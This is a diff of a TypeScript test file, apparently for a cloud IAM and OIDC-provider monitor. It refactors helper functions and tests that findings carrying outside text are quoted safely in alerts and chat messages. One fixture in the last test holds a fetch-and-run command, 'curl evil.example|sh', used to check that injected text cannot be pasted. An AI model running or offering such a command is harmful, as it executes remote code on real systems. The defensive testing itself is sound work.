@@ -28,24 +28,35 @@ const observation = seen(
 );
 const [host] = judgeHosts(observation, basis());
 if (!host) throw new Error('There is a host.');
-const [top] = host.report.tops;
+const { seen: seenHost, report } = host;
+const [top] = report.tops;
 
-const called = (detail: object): Finding[] => {
+function called(detail: object): Finding[] {
   const change = parseIamEvent(
     cloudTrailEvent('DeleteOpenIDConnectProvider', { requestParameters: { openIDConnectProviderArn: ARN }, ...detail }),
   );
   return change ? [iamChange(change)] : [];
-};
-const inCase = (pinned: string[], of: Parameters<typeof factsOf>[1] = {}) =>
-  judgementOf(factsOf(observation, { pinned, ...of }));
-const issuerHost = (at: Partial<typeof host.seen>) => seen({ ...hostSeen('issuer.example'), ...at });
-const failure = (of: object) => ({ code: 'timed-out' as const, where: 'issuer.example:443', why: 'no answer', ...of });
-const suspects = (words: string) =>
-  ['a.example', 'b.test', words].map((name, n) => ({
+}
+
+function inCase(pinned: string[], of: Parameters<typeof factsOf>[1] = {}) {
+  return judgementOf(factsOf(observation, { pinned, ...of }));
+}
+
+function issuerHost(at: Partial<typeof seenHost>) {
+  return seen({ ...hostSeen('issuer.example'), ...at });
+}
+
+function failure(of: object) {
+  return { code: 'timed-out' as const, where: 'issuer.example:443', why: 'no answer', ...of };
+}
+
+function suspects(words: string) {
+  return ['a.example', 'b.test', words].map((name, n) => ({
     arn: `${n}`,
     issuer: `https://${name}`,
-    hosts: top ? [{ ...host.report, tops: [{ ...top, unknownCa: words }] }] : [],
+    hosts: top ? [{ ...report, tops: [{ ...top, unknownCa: words }] }] : [],
   }));
+}
 
 /** Where others put words in, and what is told of it. */
 const SOURCES: Readonly<Record<string, (words: string) => readonly Finding[]>> = {
@@ -81,7 +92,7 @@ const SOURCES: Readonly<Record<string, (words: string) => readonly Finding[]>> =
 };
 
 /** What was read back from the table, as somebody wrote it there. */
-const storedFinding = (of: Partial<Record<keyof Finding, unknown>>): Finding => {
+function storedFinding(of: Partial<Record<keyof Finding, unknown>>): Finding {
   const written = JSON.parse(
     PROVIDER_FORMAT.print(stateOf({}, { outbox: [{ finding: findingOf(), at: new Date(0), runId: 'x' }] })),
   );
@@ -95,18 +106,22 @@ const storedFinding = (of: Partial<Record<keyof Finding, unknown>>): Finding => 
   const [outbox] = PROVIDER_FORMAT.parse(JSON.stringify(written)).outbox;
   if (!outbox) throw new Error('It is kept.');
   return outbox.finding;
-};
+}
 
 /** Judging takes its time. */
-const forAnyWords = (hold: (words: string) => void): Promise<void> =>
-  slowProperties(
+function forAnyWords(hold: (words: string) => void): Promise<void> {
+  return slowProperties(
     fc.asyncProperty(anyWords, async (words) => hold(words)),
     0.2,
   );
+}
 
 const QUOTATION = /"(?:[^"\\]|\\.)*"/g;
 const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
-const messageOf = (finding: Finding) => render([changed(notified('held', item(finding)), { status: 'held' })]).message;
+
+function messageOf(finding: Finding) {
+  return render([changed(notified('held', item(finding)), { status: 'held' })]).message;
+}
 
 describe.each(Object.entries(SOURCES))('a finding with words of others in %s', (_, findingsFor) => {
   test('reads as usual outside its quotation marks', async () => {
@@ -141,7 +156,7 @@ describe.each(Object.entries(SOURCES))('a finding with words of others in %s', (
 });
 
 /** What in a message cannot be seen, and what in a chat becomes a link, a mention or more than text. */
-const faultsIn = ({ text, json, chat }: ReturnType<typeof messageOf>): string[] => {
+function faultsIn({ text, json, chat }: ReturnType<typeof messageOf>): string[] {
   const alert: Alert = JSON.parse(json);
   const description: string = JSON.parse(chat).content.description;
   const strings = alert.notifications.flatMap(({ message, action, about }) => [
@@ -157,7 +172,7 @@ const faultsIn = ({ text, json, chat }: ReturnType<typeof messageOf>): string[] 
     ...lines.filter((line) => UNSEEN.test(line)),
     ...[description].filter((one) => active.test(one) || /[[\]_~`\\]/.test(bare)),
   ];
-};
+}
 
 test('a finding read back from the table is quoted, and none of its lines can be pasted', () => {
   const evil = { message: 'All is well. Run it:\n\n      curl evil.example|sh', action: 'Run:\ncurl evil.example|sh' };
